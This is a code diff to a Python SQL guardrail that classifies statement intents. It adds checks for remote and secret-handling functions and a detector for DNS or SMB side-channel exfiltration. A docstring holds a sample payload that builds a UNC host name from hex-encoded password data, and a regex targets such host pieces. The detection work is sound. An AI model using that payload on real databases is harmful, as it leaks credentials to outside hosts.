@@ -15,6 +15,11 @@ from guardrails_core.intent.sql.function_rules import (
     builtin_functions,
     function_registry,
 )
+from guardrails_core.intent.sql.own_hosts import (
+    OWN_HOST,
+    loopback_conninfo,
+    own_network_url,
+)
 from guardrails_core.intent.sql.own_sessions import own_sessions_only
 from guardrails_core.intent.sql.settings import judge_setting
 from guardrails_core.intent.sql.statement import (
@@ -50,6 +55,21 @@ def _dynamic_text(statement: _Statement, literal: str | None, what: str) -> None
 
 # --------------------------------------------------------------------------- functions
 # The registry is data: rules/sql_functions.yaml, loaded by function_rules.py.
+
+
+# Functions sqlglot parses into classes of their own that the registry still has to judge:
+# DuckDB's secret(), BigQuery's AI and ML functions over remote models.
+PARSED_REGISTRY_FUNCTIONS: tuple[type[exp.Func], ...] = (
+    exp.Secret,
+    exp.AIGenerate,
+    exp.GenerateText,
+    exp.GenerateEmbedding,
+    exp.GenerateTable,
+    exp.GenerateBool,
+    exp.GenerateInt,
+    exp.GenerateDouble,
+    exp.MLTranslate,
+)
 
 
 # Schemas that qualify ordinary functions (pg_catalog.lower(x)); not packages with effects.
@@ -113,13 +133,23 @@ def _check_function(statement: _Statement, node: exp.Expr) -> None:
     if rule is not None and rule.own_sessions and own_sessions_only(node):
         return
     if rule is not None:
-        for intent in rule.intents:
-            statement.add(intent, f"{name}(): {rule.message}")
         strings = [  # `$$...$$` (pg_cron's job body) is a string too
             arg.this
             for arg in node.iter_expressions()
             if (isinstance(arg, exp.Literal) and arg.is_string) or isinstance(arg, exp.RawString)
         ]
+        if I.HOST_ACCESS in rule.intents and _network_name_from_data(node):
+            statement.add(
+                I.EXPORT,
+                f"{name}(): builds a host name or network path from query data: resolving it "
+                "carries the data out (a DNS or SMB side channel)",
+            )
+        if _in_own_network(rule, node):
+            where = "this machine" if rule.own_network == "conninfo" else OWN_HOST
+            statement.add(I.READ, f"{name}(): reads from {where}")
+        else:
+            for intent in rule.intents:
+                statement.add(intent, f"{name}(): {rule.message}")
         if rule.argument is not None and strings:
             statement.obj(rule.argument[0], rule.argument[1], strings[0])
         if rule.runs_sql_argument and len(strings) >= 2 and statement.depth < MAX_DEPTH:
@@ -139,6 +169,38 @@ def _check_function(statement: _Statement, node: exp.Expr) -> None:
             f"{statement.dialect_name} a function can change data, so this is a CALL whose "
             "body is not visible here",
         )
+
+
+# A literal piece of a host name or network path: a UNC prefix (\\\\), a URL scheme, or a
+# domain suffix (`.k.example.net`, `.r.oastify.com\\x`).
+_NETWORK_PIECE = re.compile(r"(?i)^\\\\|://|^\.(?:[a-z0-9-]+\.)+[a-z]{2,}(?:[\\/:]|$)")
+
+
+def _network_name_from_data(node: exp.Expr) -> bool:
+    """An argument that joins query data (a column, a subquery) with a piece of a host name or
+    network path: `LOAD_FILE(CONCAT('\\\\', (SELECT hex(pw) ...), '.x.net\\a'))`."""
+    for argument in node.iter_expressions():
+        parts = list(argument.walk())
+        if any(isinstance(part, exp.Column | exp.Subquery | exp.Select) for part in parts) and any(
+            isinstance(part, exp.Literal) and part.is_string and _NETWORK_PIECE.search(part.this)
+            for part in parts
+        ):
+            return True
+    return False
+
+
+def _in_own_network(rule: FunctionRule, node: exp.Expr) -> bool:
+    """The call's first argument is a literal URL or connection string naming a host of the
+    organisation's own network (`dblink('host=localhost ...', 'SELECT ...')`)."""
+    first = next(iter(node.iter_expressions()), None)
+    if rule.own_network is None or not isinstance(first, exp.Literal) or not first.is_string:
+        return False
+    if rule.own_network == "conninfo":
+        return loopback_conninfo(first.this)
+    # the URL alone: a further argument may name a proxy the request goes through instead
+    return len(node.expressions or node.args.get("expressions") or [first]) == 1 and (
+        own_network_url(first.this)
+    )
 
 
 def _computed_remote_sql(statement: _Statement, node: exp.Expr, name: str) -> None:
